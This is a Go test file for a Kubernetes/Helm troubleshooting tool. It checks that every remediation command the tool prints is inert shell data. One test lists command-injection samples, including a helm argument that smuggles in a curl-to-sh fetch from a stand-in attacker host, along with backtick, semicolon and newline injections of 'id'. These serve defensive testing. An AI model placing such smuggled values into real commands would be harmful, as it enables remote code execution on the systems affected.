package remediate_test

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/unstick-dev/unstick/internal/check"
	"github.com/unstick-dev/unstick/internal/finding"
	"github.com/unstick-dev/unstick/internal/remediate"
	"github.com/unstick-dev/unstick/internal/shellcmd"
)

// Every command unstick prints for a scenario or the example fleet — scan's filled-in
// ladders and the fix plan's steps — is a plain list of shell words: outside quotes it holds
// nothing the shell would act on but the pipes, && and > redirection the catalogue writes and
// the <placeholders> a person fills in. None is withheld: the fixtures are real cluster data,
// so a withheld command there would mean a rule that refuses real names.
func TestEveryPrintedCommandIsShellData(t *testing.T) {
	dirs := []string{filepath.Join("..", "..", "examples", "fleet-upgrade-stuck")}
	err := filepath.WalkDir(filepath.Join("..", "..", "testdata", "scenarios"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() && d.Name() == "expect.yaml" {
			dirs = append(dirs, filepath.Dir(p))
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, dir := range dirs {
		for _, c := range printedCommands(t, dir) {
			seen++
			if shellcmd.IsWithheld(c) {
				t.Errorf("%s: a command of real data is withheld: %s", dir, c)
			} else if err := shellData(c); err != nil {
				t.Errorf("%s: %v: %s", dir, err, c)
			}
		}
	}
	if seen < 500 {
		t.Errorf("only %d commands seen in %d bundles: the walk missed them", seen, len(dirs))
	}
}

// printedCommands are the commands of every finding and of the fix plan of a bundle.
func printedCommands(t *testing.T, dir string) []string {
	snap, ctx := load(t, dir)
	incidents, findings, _ := check.Evaluate(ctx, check.Filter{})
	var out []string
	steps := func(f finding.Finding) {
		for _, s := range f.Remediation {
			out = append(out, s.Commands...)
		}
	}
	for _, f := range findings {
		steps(f)
	}
	for _, inc := range incidents {
		steps(inc.RootCause)
	}
	p := remediate.Build(remediate.Input{Snap: snap, Incidents: incidents, Options: remediate.Options{MaxRisk: remediate.High}})
	for _, s := range p.Steps() {
		out = append(out, s.Commands...)
	}
	return out
}

var (
	placeholderAt = regexp.MustCompile(`^<[A-Za-z][A-Za-z0-9+.\-]*>`)
	operators     = map[string]bool{"|": true, "&&": true, ">": true}
)

// shellData reads cmd as a POSIX shell does, word by word, and fails on anything outside
// single quotes that the shell would expand, run or redirect, other than the operators the
// catalogue's commands use standing as words of their own.
func shellData(cmd string) error {
	word := ""
	for i := 0; i <= len(cmd); i++ {
		if i == len(cmd) || cmd[i] == ' ' {
			if err := plainWord(word); err != nil && !operators[word] {
				return fmt.Errorf("word %q: %w", word, err)
			}
			word = ""
			continue
		}
		if q := cmd[i]; q == '\'' || q == '"' {
			end := strings.IndexByte(cmd[i+1:], q)
			if end < 0 {
				return fmt.Errorf("unterminated %c quote", q)
			}
			if q == '"' && strings.ContainsAny(cmd[i+1:i+1+end], "$`\\!") {
				return fmt.Errorf("a double-quoted part the shell expands: %s", cmd[i:i+2+end])
			}
			i += end + 1
			word += "Q" // a quoted part: data
			continue
		}
		word += cmd[i : i+1]
	}
	return nil
}

// plainWord checks the unquoted characters of one word.
func plainWord(w string) error {
	for i := 0; i < len(w); i++ {
		switch c := w[i]; {
		case c == '<':
			m := placeholderAt.FindString(w[i:])
			if m == "" {
				return fmt.Errorf("a redirection")
			}
			i += len(m) - 1
		case strings.IndexByte("|&;()$`\\><*?[]{}~#!\n\r\t", c) >= 0:
			return fmt.Errorf("%q outside quotes", c)
		}
	}
	return nil
}

// The check above fails on what an injected value would print.
func TestShellDataCatchesInjection(t *testing.T) {
	for _, bad := range []string{
		"helm --kube-context prod -n tenant-a rollback app$(curl${IFS}-s${IFS}evil.example.com|sh) 1",
		"helm -n tenant-a rollback app`id` 1", "kubectl -n a;id get pods", "kubectl get pod 'x",
		"kubectl get pod \"$(id)\"", "kubectl get pod x\nid", "kubectl get pod a|sh", "kubectl get pod <x",
		"kubectl get pod {a,b}", "kubectl get pod *",
	} {
		if shellData(bad) == nil {
			t.Errorf("shellData accepts %q", bad)
		}
	}
	if err := shellData(`kubectl --context 'a b' -n x get secret -o jsonpath='{.data.release}' | base64 -d > patch.json && kubectl -n <ns> get pod`); err != nil {
		t.Errorf("shellData refuses a plain command: %v", err)
	}
}
